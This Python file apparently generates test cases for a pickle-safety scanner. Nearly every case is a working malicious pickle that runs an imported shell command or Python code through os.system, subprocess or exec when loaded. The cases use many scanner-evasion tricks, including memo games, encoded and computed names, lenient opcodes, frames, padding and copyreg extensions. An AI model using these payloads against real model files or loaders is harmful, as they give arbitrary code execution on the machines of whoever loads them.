"""Every opcode that can call, and every way to bring a name or a value to it."""

import pickle

from assembler import *
from case import COMMAND, PYTHON, add

CMD = text(COMMAND)
POSIX, SYS = text("posix"), text("system")

# Each opcode that calls.
add("opcodes/reduce-0", glob("posix", "system") + MARK + string_line(COMMAND) + TUPLE + REDUCE + STOP)
for version in range(1, 6):
    add(f"opcodes/reduce-{version}", payload(version))
for version in range(4, 6):
    add(f"opcodes/stack-global-{version}", proto(version) + stack_global(POSIX, SYS) + TUPLE1.join([CMD, b""]) + REDUCE + STOP)
add("opcodes/inst", inst("posix", "system", string_line(COMMAND)) + STOP)
add("opcodes/obj", proto(2) + MARK + glob("posix", "system") + CMD + OBJ + STOP)
add("opcodes/obj-class", proto(2) + MARK + glob("subprocess", "Popen") + list_of(text("sh"), text("-c"), CMD) + OBJ + STOP)
add("opcodes/inst-class", inst("subprocess", "Popen", list_of(text("sh"), text("-c"), CMD)) + STOP)
# NEWOBJ calls cls.__new__: of a class that eats an iterator there, or keeps a call for later.
for name, opcode, extra in (("newobj", NEWOBJ, b""), ("newobj-ex", NEWOBJ_EX, EMPTY_DICT)):
    # FileIO.__new__ does nothing, map.__new__ takes a function: consumed by a list below.
    add(f"opcodes/{name}-map", proto(4) + glob("builtins", "list") + glob("builtins", "map")
        + tuple_of(glob("posix", "system"), list_of(CMD)) + extra + opcode + TUPLE1 + REDUCE + STOP)
    # type.__new__ runs __set_name__ of what the class body holds; partial.__new__ keeps a call for later.
    add(f"opcodes/{name}-partial", proto(4) + glob("functools", "partial")
        + tuple_of(glob("posix", "system"), CMD) + extra + opcode + tuple_of() + REDUCE + STOP)
    # deque(), set() and dict() are made by __init__; bytes, frozenset and tuple consume an iterator in __new__.
    for eater in ("tuple", "frozenset", "bytes"):
        add(f"opcodes/{name}-{eater}-eats-map", proto(4) + glob("builtins", eater)
            + tuple_of(reduce(glob("builtins", "map"), glob("posix", "system"), list_of(CMD))) + extra + opcode + STOP)
add("opcodes/newobj-ex-keyword", proto(4) + glob("functools", "partial") + tuple_of(glob("subprocess", "call"))
    + dict_of((text("args"), CMD), (text("shell"), TRUE)) + NEWOBJ_EX + tuple_of() + REDUCE + STOP)
add("opcodes/frozenset-op-then-map", proto(4) + reduce(glob("builtins", "tuple"), reduce(glob("builtins", "map"), glob("posix", "system"), MARK + CMD + FROZENSET)) + STOP)

# BUILD is a call.
PARTIAL = reduce(glob("functools", "partial"), glob("builtins", "print"))
STATE = tuple_of(glob("posix", "system"), tuple_of(CMD), EMPTY_DICT, NONE)
add("opcodes/build-partial-setstate", proto(2) + PARTIAL + STATE + BUILD + tuple_of() + REDUCE + STOP)
# An object without __slots__ whose attributes BUILD fills: the next opcode asks the instance for the method.
for home, maker in {"namespace": reduce(glob("types", "SimpleNamespace")), "argparse": glob("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ,
                    "exception": reduce(glob("builtins", "Exception"))}.items():
    add(f"opcodes/build-setstate-{home}", proto(2) + maker + dict_of((text("__setstate__"), glob("posix", "system"))) + BUILD + CMD + BUILD + STOP)
    add(f"opcodes/build-append-{home}", proto(2) + maker + dict_of((text("append"), glob("posix", "system"))) + BUILD + CMD + APPEND + STOP)
    add(f"opcodes/build-appends-{home}", proto(2) + maker + dict_of((text("append"), glob("posix", "system"))) + BUILD + MARK + CMD + APPENDS + STOP)
    add(f"opcodes/build-extend-{home}", proto(2) + maker + dict_of((text("extend"), reduce(glob("functools", "partial"), glob("subprocess", "call"))))
        + BUILD + MARK + text("sh") + text("-c") + CMD + APPENDS + STOP)
    add(f"opcodes/build-add-{home}", proto(4) + maker + dict_of((text("add"), glob("posix", "system"))) + BUILD + MARK + CMD + ADDITEMS + STOP)
# SETITEM looks on the class, so the class itself gets __setitem__.
CLASS = reduce(glob("builtins", "type"), text("T"), tuple_of(glob("builtins", "object")),
               dict_of((text("__setitem__"), reduce(glob("builtins", "staticmethod"), glob("builtins", "exec")))))
INSTANCE = CLASS + tuple_of() + REDUCE
add("opcodes/setitem-class", proto(2) + INSTANCE + text(PYTHON) + EMPTY_DICT + SETITEM + STOP)
add("opcodes/setitems-class", proto(2) + INSTANCE + MARK + text(PYTHON) + EMPTY_DICT + SETITEMS + STOP)
add("opcodes/setitem-build-on-class", proto(2) + glob("argparse", "Namespace") + binput(0)
    + tuple_of(NONE, dict_of((text("__setitem__"), reduce(glob("builtins", "staticmethod"), glob("builtins", "exec"))))) + BUILD
    + b"0" + binget(0) + EMPTY_TUPLE + NEWOBJ + text(PYTHON) + EMPTY_DICT + SETITEM + STOP)
add("opcodes/build-slot-state", proto(2) + reduce(glob("types", "SimpleNamespace")) + tuple_of(NONE, dict_of((text("__setstate__"), glob("posix", "system")))) + BUILD + CMD + BUILD + STOP)
# A class statement in a pickle: attributes set on a class by BUILD's slot state change all its instances.
add("opcodes/build-on-class-new", proto(2) + glob("argparse", "Namespace") + binput(0)
    + tuple_of(NONE, dict_of((text("__call__"), glob("posix", "system")))) + BUILD + b"0"
    + binget(0) + tuple_of(NONE, dict_of((text("__call__"), reduce(glob("functools", "partial"), glob("posix", "system"), CMD)))) + BUILD + b"0"
    + reduce(binget(0)) + tuple_of() + REDUCE + STOP)
add("opcodes/build-on-class-reduce-ex", proto(2) + glob("argparse", "Namespace") + binput(0)
    + tuple_of(NONE, dict_of((text("__setstate__"), reduce(glob("builtins", "staticmethod"), glob("posix", "system"))))) + BUILD + b"0"
    + reduce(binget(0)) + CMD + BUILD + STOP)
add("opcodes/build-on-module", proto(4) + reduce(glob("importlib", "import_module"), text("json")) + dict_of((text("loads"), glob("posix", "system"))) + BUILD + b"0"
    + reduce(glob("json", "loads"), CMD) + STOP)
# Calls whose result is thrown away.
add("opcodes/pop", cover())
add("opcodes/pop-mark", proto(2) + MARK + SYSTEM + POP_MARK + EMPTY_DICT + STOP)
add("opcodes/inside-list", proto(2) + EMPTY_LIST + MARK + integer(1) + SYSTEM + APPENDS + STOP)
add("opcodes/dict-key", proto(2) + EMPTY_DICT + SYSTEM + NONE + SETITEM + STOP)
add("opcodes/dict-value", proto(2) + EMPTY_DICT + text("w") + SYSTEM + SETITEM + STOP)
add("opcodes/set-member", proto(4) + EMPTY_SET + MARK + SYSTEM + ADDITEMS + STOP)
add("opcodes/state", proto(2) + reduce(glob("types", "SimpleNamespace")) + dict_of((text("a"), SYSTEM)) + BUILD + STOP)
add("opcodes/in-ordered-dict", proto(2) + reduce(glob("collections", "OrderedDict")) + MARK + text("weight") + SYSTEM + SETITEMS + STOP)

# How the operands of STACK_GLOBAL and the argument arrive.
add("opcodes/memo-get", proto(4) + POSIX + put(7) + b"0" + SYS + put(9) + b"0" + get(7) + get(9) + STACK_GLOBAL + CMD + TUPLE1 + REDUCE + STOP)
add("opcodes/memo-binget", proto(4) + POSIX + binput(7) + b"0" + SYS + binput(9) + b"0" + binget(7) + binget(9) + STACK_GLOBAL + CMD + TUPLE1 + REDUCE + STOP)
add("opcodes/memo-long-binget", proto(4) + POSIX + long_binput(70000) + b"0" + SYS + long_binput(90000) + b"0" + long_binget(70000) + long_binget(90000) + STACK_GLOBAL + CMD + TUPLE1 + REDUCE + STOP)
add("opcodes/memoize", proto(4) + POSIX + MEMOIZE + b"0" + SYS + MEMOIZE + b"0" + binget(0) + binget(1) + STACK_GLOBAL + CMD + TUPLE1 + REDUCE + STOP)
add("opcodes/memo-overwritten", proto(4) + text("collections") + binput(0) + b"0" + text("OrderedDict") + binput(1) + b"0" + POSIX + binput(0) + b"0" + SYS + binput(1) + b"0"
    + binget(0) + binget(1) + STACK_GLOBAL + CMD + TUPLE1 + REDUCE + STOP)
add("opcodes/memo-memoize-then-put", proto(4) + text("math") + MEMOIZE + b"0" + POSIX + put(0) + b"0" + SYS + MEMOIZE + b"0" + get(0) + get(1) + STACK_GLOBAL + CMD + TUPLE1 + REDUCE + STOP)
add("opcodes/memo-global", proto(2) + glob("collections", "OrderedDict") + binput(0) + b"0" + glob("posix", "system") + binput(0) + b"0" + reduce(binget(0), CMD) + STOP)
add("opcodes/memo-callee-late", proto(2) + glob("posix", "system") + binput(5) + b"0" + dict_of((text("a"), integer(1))) + b"0" + reduce(binget(5), CMD) + STOP)
add("opcodes/memo-text-key-zeros", proto(4) + POSIX + put("007") + b"0" + SYS + put("+8") + b"0" + get("7") + get("08") + STACK_GLOBAL + CMD + TUPLE1 + REDUCE + STOP)
add("opcodes/memo-text-key-space", proto(4) + POSIX + put(" 7 ") + b"0" + SYS + get("7") + b"0" + get("+7") + SYS + STACK_GLOBAL + CMD + TUPLE1 + REDUCE + STOP)
add("opcodes/memo-text-key-underscore", proto(4) + POSIX + put("1_0") + b"0" + get("10") + SYS + STACK_GLOBAL + CMD + TUPLE1 + REDUCE + STOP)
add("opcodes/dup", proto(4) + glob("posix", "system") + DUP + b"0" + CMD + TUPLE1 + REDUCE + STOP)
add("opcodes/dup-name", proto(4) + text("copy") + DUP + STACK_GLOBAL + b"0" + SYSTEM + STOP)
add("opcodes/dup-mark-trick", proto(4) + POSIX + SYS + DUP + b"0" + STACK_GLOBAL + CMD + DUP + TUPLE2 + b"0" + CMD + TUPLE1 + b"0" + b"0" + SYSTEM + STOP)
add("opcodes/pop-between", proto(4) + POSIX + text("x") + b"0" + SYS + text("y") + b"0" + STACK_GLOBAL + CMD + TUPLE1 + REDUCE + STOP)
add("opcodes/pop-mark-between", proto(4) + POSIX + MARK + text("os") + text("getcwd") + POP_MARK + SYS + MARK + POP_MARK + STACK_GLOBAL + CMD + TUPLE1 + REDUCE + STOP)
add("opcodes/pop-removes-mark", proto(4) + POSIX + MARK + b"0" + SYS + STACK_GLOBAL + CMD + TUPLE1 + REDUCE + STOP)
add("opcodes/decoy-strings", proto(4) + text("collections") + text("OrderedDict") + POSIX + SYS + STACK_GLOBAL + CMD + TUPLE1 + REDUCE + STOP)
add("opcodes/decoy-after", proto(4) + POSIX + SYS + text("collections") + b"0" + text("OrderedDict") + b"0" + STACK_GLOBAL + CMD + TUPLE1 + REDUCE + STOP)
add("opcodes/opcode-in-text", proto(2) + text("\x80\x04.") + b"0" + SYSTEM + STOP)
add("opcodes/arguments-tuple-memo", proto(2) + CMD + TUPLE1 + binput(0) + b"0" + glob("posix", "system") + binget(0) + REDUCE + STOP)
add("opcodes/arguments-mark-tuple", proto(2) + glob("posix", "system") + MARK + CMD + TUPLE + REDUCE + STOP)
add("opcodes/arguments-made", proto(2) + glob("posix", "system") + reduce(glob("builtins", "tuple"), list_of(CMD)) + REDUCE + STOP)

# Every string opcode in every place it can stand; Python 2 strings need protocol 0 to 2 readers, which all still are.
SPELL = {
    "unicode": lambda value: b"V" + value.encode() + b"\n",
    "unicode-escapes": unicode_line,
    "unicode-long-escapes": lambda value: b"V" + "".join(f"\\U{ord(one):08x}" for one in value).encode() + b"\n",
    "unicode-mixed-escapes": lambda value: b"V" + value[0].encode() + unicode_line(value[1:])[1:],
    "string": string_line,
    "string-double-quotes": lambda value: b'S"' + value.encode() + b'"\n',
    "string-hex": lambda value: b"S'" + "".join(f"\\x{ord(one):02x}" for one in value).encode() + b"'\n",
    "string-octal": lambda value: b"S'" + "".join(f"\\{ord(one):03o}" for one in value).encode() + b"'\n",
    "string-padded": lambda value: b"S'" + value.encode() + b"' \t\r\n",
    "binstring": binstring,
    "short-binstring": short_binstring,
    "binunicode": text,
    "short-binunicode": short_text,
    "binunicode8": text8,
}
for name, spell in SPELL.items():
    add(f"opcodes/spell-{name}", proto(4) + spell("posix") + spell("system") + STACK_GLOBAL + spell(COMMAND) + TUPLE1 + REDUCE + STOP)
# Names that are computed: unknown to a reader that does not run them.
COMPUTED = {
    "join": reduce(glob("builtins", "str.join"), text(""), list_of(text("po"), text("six"))),
    "format": reduce(glob("builtins", "str.format"), text("{}six"), text("po")),
    "lower": reduce(glob("builtins", "str.lower"), text("POSIX")),
    "replace": reduce(glob("builtins", "str.replace"), text("p_o_s_i_x"), text("_"), text("")),
    "bytes-decode": reduce(glob("builtins", "bytes.decode"), binbytes(b"posix"), text("ascii")),
    "codecs-decode": reduce(glob("_codecs", "decode"), text("cbfvk"), text("rot13")),
    "concat": reduce(glob("_operator", "concat"), text("po"), text("six")),
    "add": reduce(glob("_operator", "add"), text("po"), text("six")),
    "getitem": reduce(glob("_operator", "getitem"), list_of(text("math"), text("posix")), integer(1)),
    "slice": reduce(glob("_operator", "getitem"), text("xisop"), reduce(glob("builtins", "slice"), NONE, NONE, integer(-1))),
    "str": reduce(glob("builtins", "str"), binbytes(b"posix"), text("utf-8")),
    "reversed": reduce(glob("builtins", "str.join"), text(""), reduce(glob("builtins", "reversed"), text("xisop"))),
    "unquote": reduce(glob("urllib.parse", "unquote"), text("%70osix")),
    "intern": reduce(glob("sys", "intern"), text("posix")),
}
for name, made in COMPUTED.items():
    add(f"opcodes/computed-module-{name}", proto(4) + made + SYS + STACK_GLOBAL + CMD + TUPLE1 + REDUCE + STOP)
add("opcodes/computed-name", proto(4) + POSIX + reduce(glob("builtins", "str.strip"), text(" system ")) + STACK_GLOBAL + CMD + TUPLE1 + REDUCE + STOP)
add("opcodes/computed-callee", proto(4) + reduce(reduce(glob("_operator", "attrgetter"), text("system")), reduce(glob("importlib", "import_module"), text("os"))) + CMD + TUPLE1 + REDUCE + STOP)

# What the C unpickler takes and pickletools does not.
LENIENT = {
    "int-hex": b"I0x10\n0", "int-octal": b"I0o17\n0", "int-spaces": b"I 12 \n0", "int-nul": b"I12\x00\n0", "int-nul-text": b"I12\x00junk\n0",
    "int-huge": b"I123456789012345678901234567890\n0", "int-plus": b"I+7\n0", "long-hex": b"L0x10L\n0", "long-no-l": b"L16\n0", "long-underscore": b"L1_0L\n0",
    "int-true": b"I01\n0", "int-false": b"I00\n0", "float-nul": b"F1.5\x00\n0", "float-spaces": b"F 1.5 \n0", "float-inf": b"Finf\n0", "float-nan": b"Fnan\n0",
    "proto-twice": b"\x80\x02", "proto-later": b"N0\x80\x05", "proto-lower": b"\x80\x00", "long1-empty": b"\x8a\x000", "long4-empty": b"\x8b\0\0\0\x000",
}
for name, junk in LENIENT.items():
    add(f"opcodes/lenient-{name}", proto(2) + junk + SYSTEM + STOP)
add("opcodes/lenient-proto-missing", stack_global(POSIX, SYS) + CMD + TUPLE1 + REDUCE + STOP)
add("opcodes/lenient-proto-last", SYSTEM + proto(4) + STOP)
add("opcodes/lenient-proto-0-newer-opcodes", proto(0) + stack_global(short_text("posix"), short_text("system")) + short_text(COMMAND) + TUPLE1 + REDUCE + STOP)
add("opcodes/lenient-global-not-ascii", proto(2) + reduce(glob("builtins", "exec"), text(f"import sys,types;m=types.ModuleType('modèle');import os;m.système=os.system;sys.modules['modèle']=m"))
    + b"0" + reduce(glob("modèle", "système"), CMD) + STOP)
add("opcodes/lenient-setattr-not-ascii", proto(4) + reduce(glob("builtins", "setattr"), reduce(glob("importlib", "import_module"), text("json")), text("größe"), glob("posix", "system"))
    + b"0" + reduce(glob("json", "größe"), CMD) + STOP)
add("opcodes/lenient-global-carriage-return", proto(2) + reduce(glob("builtins", "exec"), text("import sys,os;sys.modules['os\\r']=os")) + b"0" + reduce(glob("os\r", "system"), CMD) + STOP)
BODY = stack_global(POSIX, SYS) + CMD + TUPLE1 + REDUCE + STOP
add("opcodes/frame-exact", proto(4) + frame(BODY))
add("opcodes/frame-short", proto(4) + frame(BODY, len(BODY) - 4))
add("opcodes/frame-short-first", proto(4) + frame(BODY, 3))
add("opcodes/frame-zero", proto(4) + frame(b"") + BODY)
add("opcodes/frame-zero-many", proto(4) + frame(b"") * 50 + BODY)
add("opcodes/frame-nested", proto(4) + frame(frame(BODY)))
add("opcodes/frame-nested-short", proto(4) + frame(frame(BODY, 2), 20))
add("opcodes/frame-in-protocol-2", proto(2) + frame(BODY))
add("opcodes/frame-two", proto(4) + frame(POSIX + SYS + STACK_GLOBAL) + frame(CMD + TUPLE1 + REDUCE + STOP))
add("opcodes/frame-after-call", proto(4) + BODY[:-1] + frame(NONE + STOP))

# Dotted names.
for module, name in [("posixpath", "os.system"), ("random", "_os.system"), ("torch.hub", "os.system"), ("joblib.memory", "os.system"),
                     ("collections", "_sys.modules"), ("logging", "os.system"), ("tempfile", "_os.system"), ("glob", "os.system"), ("shutil", "os.system"),
                     ("pathlib", "os.system"), ("argparse", "_os.system"), ("torch", "os.system"), ("pandas.io.common", "os.system"), ("inspect", "os.system"),
                     ("numpy.lib._datasource", "os.system"), ("torch.serialization", "os.system"), ("uuid", "os.system")]:
    if name.endswith("system"):
        add(f"opcodes/dotted-{module}", proto(4) + stack_global(text(module), text(name)) + CMD + TUPLE1 + REDUCE + STOP)
add("opcodes/dotted-global-opcode", proto(4) + reduce(glob("posixpath", "os.system"), CMD) + STOP)
add("opcodes/dotted-inst-opcode", proto(4) + inst("posixpath", "os.system", CMD) + STOP)
add("opcodes/dotted-builtins-get", proto(4) + reduce(reduce(glob("numpy", "__builtins__.get"), text("eval")), text(PYTHON)) + STOP)
add("opcodes/dotted-builtins-getitem", proto(4) + reduce(reduce(glob("collections", "__builtins__.__getitem__"), text("exec")), text(PYTHON)) + STOP)
add("opcodes/dotted-sys-modules", proto(4) + reduce(glob("builtins", "getattr"), reduce(glob("sys", "modules.get"), text("posix")), text("system")) + CMD + TUPLE1 + REDUCE + STOP)
add("opcodes/dotted-init-globals", proto(4) + reduce(glob("builtins", "getattr"), reduce(glob("argparse", "Namespace.__init__.__globals__.get"), text("_os")), text("system")) + CMD + TUPLE1 + REDUCE + STOP)
add("opcodes/dotted-class-loader", proto(4) + reduce(glob("collections", "OrderedDict.__class__.__call__"), glob("subprocess", "Popen"), CMD, integer(-1), NONE, NONE, NONE, NONE, NONE, TRUE, TRUE) + STOP)
add("opcodes/dotted-method", proto(4) + reduce(glob("functools", "reduce.__call__"), glob("posix", "system"), list_of(CMD)) + b"0" + reduce(glob("posix", "system.__call__"), CMD) + STOP)

# EXT codes: the pickle itself fills copyreg's table.
for width, code in ((1, 0xAB), (2, 0xABCD), (4, 0x12ABCDEF)):
    add(f"opcodes/ext-{width}", proto(2) + reduce(glob("copyreg", "add_extension"), text("posix"), text("system"), integer(code)) + b"0" + reduce(ext(code, width), CMD) + STOP)
add("opcodes/ext-cache", proto(4) + reduce(glob("copyreg", "_extension_cache.__setitem__"), integer(7), glob("posix", "system")) + b"0" + reduce(ext(7, 1), CMD) + STOP)
add("opcodes/ext-registry", proto(4) + reduce(glob("copyreg", "_inverted_registry.__setitem__"), integer(9), tuple_of(text("posix"), text("system"))) + b"0" + reduce(ext(9, 1), CMD) + STOP)
add("opcodes/ext-registry-update", proto(4) + reduce(glob("copyreg", "_inverted_registry.update"), dict_of((integer(300), tuple_of(text("posix"), text("system"))))) + b"0" + reduce(ext(300, 2), CMD) + STOP)
add("opcodes/ext-registry-setitem", proto(2) + glob("copyreg", "_inverted_registry") + integer(11) + tuple_of(text("posix"), text("system")) + SETITEM + b"0" + reduce(ext(11, 1), CMD) + STOP)

# Python 2 names, which protocols 0 to 2 map to today's.
add("opcodes/python2-eval", proto(2) + reduce(glob("__builtin__", "eval"), text(PYTHON)) + STOP)
add("opcodes/python2-commands", proto(2) + reduce(glob("commands", "getoutput"), CMD) + STOP)
add("opcodes/python2-intern-map", proto(2) + reduce(glob("builtins", "list"), reduce(glob("itertools", "imap"), glob("posix", "system"), list_of(CMD))) + STOP)
add("opcodes/python2-ifilter", proto(2) + reduce(glob("builtins", "list"), reduce(glob("itertools", "ifilter"), glob("posix", "system"), list_of(CMD))) + STOP)
add("opcodes/python2-copy-reg", proto(2) + reduce(glob("copy_reg", "add_extension"), text("posix"), text("system"), integer(77)) + b"0" + reduce(ext(77, 1), CMD) + STOP)
add("opcodes/python2-reduce", proto(2) + reduce(glob("__builtin__", "reduce"), glob("_operator", "concat"), list_of(text("a"), text("b"))) + b"0" + SYSTEM + STOP)
add("opcodes/python2-anydbm", proto(2) + reduce(glob("__builtin__", "getattr"), reduce(glob("__builtin__", "__import__"), text("os")), text("system")) + CMD + TUPLE1 + REDUCE + STOP)

# Padding in front of the call.
add("opcodes/pad-100000-pairs", lambda: proto(2) + b"N0" * 100_000 + SYSTEM + STOP)
add("opcodes/pad-100000-marks", lambda: proto(2) + b"(1" * 100_000 + SYSTEM + STOP)
add("opcodes/pad-puts", lambda: proto(2) + NONE + b"".join(long_binput(slot) for slot in range(50_000)) + b"0" + SYSTEM + STOP)
add("opcodes/pad-megabytes", lambda: proto(4) + binbytes(bytes(8_000_000)) + b"0" + SYSTEM + STOP)
add("opcodes/pad-megabytes-text", lambda: proto(4) + text("a" * 5_000_000) + b"0" + SYSTEM + STOP)
add("opcodes/pad-globals", lambda: proto(2) + b"".join(glob("collections", "OrderedDict") + b"0" for _ in range(20_000)) + SYSTEM + STOP)
add("opcodes/pad-distinct-globals", lambda: proto(2) + b"".join(glob("token", name) + b"0" for name in __import__("token").__all__) * 40 + SYSTEM + STOP)
add("opcodes/pad-missing-globals", lambda: proto(4) + b"".join(glob("collections", "OrderedDict.__doc__") + b"0" for number in range(3000)) + SYSTEM + STOP)
add("opcodes/pad-calls", lambda: proto(2) + b"".join(reduce(glob("collections", "OrderedDict")) + b"0" for _ in range(20_000)) + SYSTEM + STOP)
add("opcodes/pad-frames", lambda: proto(4) + frame(b"N0") * 20_000 + SYSTEM + STOP)
add("opcodes/pad-nested-depth", lambda: proto(2) + b"(" * 30_000 + SYSTEM + b"t" * 30_000 + STOP)
add("opcodes/pad-memo-high", proto(4) + POSIX + long_binput(0x00FFFFFF) + b"0" + long_binget(0x00FFFFFF) + SYS + STACK_GLOBAL + CMD + TUPLE1 + REDUCE + STOP)
add("opcodes/pad-long-name", lambda: proto(4) + reduce(glob("builtins", "setattr"), reduce(glob("importlib", "import_module"), text("json")), text("n" * 60_000), glob("posix", "system"))
    + b"0" + reduce(stack_global(text("json"), text("n" * 60_000)), CMD) + STOP)

# Persistent ids: plain unpicklers raise, those of torch and of joblib's kin call on.
add("opcodes/persid-after-call", cover()[:-1] + persid("0") + STOP)
add("opcodes/binpersid-after-call", cover()[:-1] + integer(1) + BINPERSID + STOP)
add("opcodes/buffers", proto(5) + SYSTEM + b"0" + bytearray8(b"weights") + STOP)
add("opcodes/next-buffer-after-call", proto(5) + SYSTEM + b"0" + b"\x97" + STOP)
add("opcodes/bytes-command", proto(4) + reduce(glob("posix", "system"), binbytes(COMMAND.encode())) + STOP)
add("opcodes/exec-bytes", proto(4) + reduce(glob("builtins", "exec"), binbytes(PYTHON.encode())) + STOP)
add("opcodes/exec-bytearray", proto(5) + reduce(glob("builtins", "exec"), reduce(glob("builtins", "bytes"), bytearray8(PYTHON.encode()))) + STOP)


class Reducing:
    """What the textbook attack looks like when Python itself pickles it."""

    def __reduce__(self):
        import os

        return os.system, (COMMAND,)


for version in range(6):
    add(f"opcodes/textbook-{version}", pickle.dumps({"weights": [0.1, 0.2], "extra": Reducing()}, version))
